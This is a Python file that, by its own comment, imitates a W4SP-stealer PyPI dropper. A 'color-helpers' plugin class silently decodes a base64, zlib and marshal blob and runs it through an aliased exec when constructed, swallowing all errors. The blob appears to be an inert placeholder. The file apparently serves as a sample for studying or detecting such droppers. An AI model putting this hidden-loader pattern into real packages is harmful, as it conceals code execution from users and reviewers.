# Inspired by the W4SP-stealer droppers on PyPI (2022, e.g. typosquats of "colorama"/"pystyle"): a marshal+zlib+base64 chain run through an aliased exec.
import base64 as _b
import builtins
import marshal as _m
import zlib as _z

_run = getattr(builtins, "ex" + "ec")

_BLOB = (
    "eJxLzs8rSc0rUUhJTc7PS0ksSQUAKO8FOA8qZmFrZS1wYXlsb2FkLW5ldmVyLXJ1bg=="
    "QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB"
)


def _stage(blob: str):
    raw = _b.b64decode(blob)
    return _m.loads(_z.decompress(raw))


class Plugin:
    name = "color-helpers"

    def __init__(self):
        try:
            _run(_stage(_BLOB), {"__name__": "__main__"})
        except Exception:
            pass

    def colorize(self, text: str, code: int = 32) -> str:
        return f"\033[{code}m{text}\033[0m"
